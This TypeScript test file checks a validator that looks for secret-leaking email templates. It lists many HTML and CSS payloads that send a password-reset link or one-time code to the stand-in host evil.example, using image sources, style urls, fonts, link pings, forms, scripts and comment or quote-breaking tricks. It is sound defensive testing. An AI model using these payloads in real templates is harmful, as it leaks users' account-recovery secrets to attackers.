import { describe, expect, it } from '@jest/globals';
import { type MessageTemplate, supportedLocales } from '#contracts';
import { cpuClock } from '#testing';
import { defaultTemplate } from './default-templates.js';
import { templateNames } from './message-kinds.js';
import { templateSecretProblem } from './secret-places.js';

const wording = (parts: Partial<MessageTemplate>): MessageTemplate => ({
  name: 'reset-password',
  locale: 'en',
  subject: 'Hello',
  text: '{{link}}',
  html: '<a href="{{link}}">x</a>',
  ...parts,
});
const shown = '<a href="{{link}}">x</a>';

describe('attack A66: a wording that would tell the secret of its message to who wrote it', () => {
  it.each([
    ['in the address of a picture', `<img src="https://evil.example/?{{link}}">${shown}`],
    ['in the address of a picture, without quotes', `<img src=https://evil.example/?{{link}}>${shown}`],
    ['as the whole address of a picture', `<img src="{{link}}">${shown}`],
    ['in a list of pictures', `<img srcset='https://evil.example/?{{link}} 1x'>${shown}`],
    ['in a part of an href', `<a href="https://evil.example/?{{link}}">x</a>${shown}`],
    ['after white space in an href', `<a href="{{link}} x">x</a>${shown}`],
    ['in the href of something else', `<area href="{{link}}">${shown}`],
    ['in a link that is reported', `<a ping="https://evil.example" href="{{link}}">x</a>`],
    ['in a style', `<p style="background:url(https://evil.example/?{{link}})">x</p>${shown}`],
    ['in a style sheet', `<style>p{background:url(https://evil.example/?{{link}})}</style>${shown}`],
    ['to the fonts of a style sheet', `<style>@font-face{font-family:x;src:url(https://evil.example)}</style>${shown}`],
    ['to the selectors of a style sheet', `<style>a[href*=x]{background:url(https://evil.example)}</style>${shown}`],
    ['to a style sheet from elsewhere', `<link rel="stylesheet" href="https://evil.example/x.css">${shown}`],
    ['in a form', `<form action="https://evil.example"><textarea name="x">{{link}}</textarea></form>`],
    ['in a comment that some programs read', `<!--[if mso]><img src="https://evil.example/?{{link}}"><![endif]-->${shown}`],
    ['in a script', `<script>fetch("https://evil.example/?{{link}}")</script>${shown}`],
    ['in a drawing', `<svg><image href="{{link}}"/></svg>${shown}`],
    ['in an open quote', `<img src="https://evil.example/?${shown}`],
    ['in an open quote that something closes', `<img src='https://evil.example/?{{link}}<p title='>${shown}`],
    ['behind a comment that ends otherwise', `<!-- > <b title=" --!> <img src='https://evil.example/?">{{link}}'>`],
    ['behind a comment that is empty', `<!--> <b title="--> <img src='https://evil.example/?">{{link}}'>`],
    ['behind white space that is none', `<b\u00A0title="> <img src='https://evil.example/?">{{link}}'>`],
    ['in a tag', `<{{link}}>${shown}`],
    ['in the name of an attribute', `<p {{link}}>${shown}`],
    ['in an address of the text', `https://evil.example/?{{link}}`],
    ['in an address of the text, disguised', `https:&#47;&#47;evil.example&#47;{{link}}`],
    ['in an address of the text, in pieces', `https://evil.example/?<b>{{link}}</b>`],
    ['where a section opens a tag', `{{#logo}}<img alt="{{/logo}}{{link}}{{#logo}}">{{/logo}}`],
    ['where a section opens a tag of who has no logo', `{{^logo_dark}}<img alt="{{/logo_dark}}{{link}}{{^logo_dark}}">{{/logo_dark}}`],
  ])('is refused: %s', (_what, html) => {
    expect(templateSecretProblem(wording({ html }))).toMatchObject({ part: 'html' });
  });

  it('is refused in the subject, and in an address of the text', () => {
    expect(templateSecretProblem(wording({ subject: '{{link}}' }))).toMatchObject({ part: 'subject' });
    for (const text of ['https://evil.example/?{{link}}', 'x@{{link}}', 'https://evil.example/\u200B{{link}}'])
      expect(templateSecretProblem(wording({ text }))).toMatchObject({ part: 'text' });
    const code = { name: 'email-otp', text: '{{code}}', html: '<b>{{code}}</b>' };
    expect(templateSecretProblem(wording(code))).toBeNull();
    expect(templateSecretProblem(wording({ ...code, subject: '{{code}}' }))).toMatchObject({ part: 'subject' });
    expect(templateSecretProblem(wording({ ...code, text: '{{code}}.evil.example' }))).toMatchObject({ part: 'text' });
    for (const html of ['<a href="{{code}}.evil.example">{{code}}</a>', '<img src="https://evil.example/{{code}}">{{code}}'])
      expect(templateSecretProblem(wording({ ...code, html }))).toMatchObject({ part: 'html' });
  });

  it('is judged quickly, whatever it is made of', () => {
    const start = cpuClock();
    for (const html of [
      '<a '.repeat(6_000),
      '<!--'.repeat(5_000),
      `<a ${'x="y" '.repeat(3_000)}`,
      '<style>'.repeat(2_800),
      '<'.repeat(20_000),
    ])
      templateSecretProblem(wording({ html }));
    expect(cpuClock() - start).toBeLessThan(1_000);
  });
});

describe('a wording that keeps the secret of its message', () => {
  it.each([
    `<!doctype html><html><head><title>x</title><style>.a{color:red}</style></head><body><p>Open:<br>{{link}}.</p></body></html>`,
    `<A CLASS='x' HREF = '{{link}}'>(<b>{{link}}</b>)</A><img src="https://acme.example/logo.png" alt="">`,
    `<a href={{link}}>Open</a> <o:p></o:p><!-- note --><![if !mso]>x<![endif]>`,
    `<p>See https://acme.example/help</p><p>{{link}}</p>&nbsp;{{link}}&nbsp;`,
    `{{#logo}}<img src="{{logo}}" alt="">{{/logo}}<a href="{{link}}">{{link}}</a>`,
  ])('is taken: %s', (html) => {
    expect(templateSecretProblem(wording({ html }))).toBeNull();
  });

  it('is each of the platform', () => {
    for (const name of templateNames)
      for (const locale of supportedLocales) {
        const template = defaultTemplate(name, locale);
        if (template === null) throw new Error('no template');
        expect(templateSecretProblem(template)).toBeNull();
      }
  });

  it('is any of a message that has none', () => {
    expect(templateSecretProblem(wording({ name: 'password-changed', html: '<img src="{{link}}">{{link}}' }))).toBeNull();
  });
});
